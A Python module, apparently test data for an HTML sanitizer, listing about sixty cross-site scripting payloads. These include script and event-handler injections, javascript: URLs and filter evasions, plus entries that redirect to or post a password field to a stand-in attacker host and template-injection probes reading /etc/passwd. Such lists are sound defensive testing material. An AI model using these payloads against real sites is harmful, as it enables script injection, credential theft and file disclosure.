"""Sixty texts that would run, or change a page, if a page took them for markup."""

from __future__ import annotations

_RUN = "alert(1)"
PAYLOADS = (
    f"<script>{_RUN}</script>", f"<SCRIPT>{_RUN}</SCRIPT>", f"<script\n>{_RUN}</script >", f"<scr<script>ipt>{_RUN}//",
    f'"><script>{_RUN}</script>', f"'><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"</select><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>", f'"><img src=x onerror={_RUN}>', f"'><img src=x onerror={_RUN}>",
    f"<img src=`x` onerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN}>", f"<math><mi xlink:href=javascript:{_RUN}>",
    f"<body onload={_RUN}>", f"<input autofocus onfocus={_RUN}>", f'" autofocus onfocus={_RUN} x="',
    f"' autofocus onfocus={_RUN} x='", f'" onmouseover={_RUN} x="', f"` onmouseover={_RUN} x=`",
    f"<details open ontoggle={_RUN}>", f"<video><source onerror={_RUN}>", f"<audio src onerror={_RUN}>",
    f"<marquee onstart={_RUN}>", f"<iframe src=javascript:{_RUN}>", f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<object data=javascript:{_RUN}>", f"<embed src=javascript:{_RUN}>", f"<a href=javascript:{_RUN}>x</a>",
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}", f"<form action=javascript:{_RUN}><button>x", f"<button formaction=javascript:{_RUN}>x",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    '<div style="background:url(//evil.example/)">', "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<a href=//evil.example>x</a>", "<form action=//evil.example><input name=password>", "<!--", "--><b>", "]]><x>",
    "<![CDATA[<b>]]>", "<?xml version='1.0'?><b>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "<b>\u202e</b>",
)  # fmt: skip
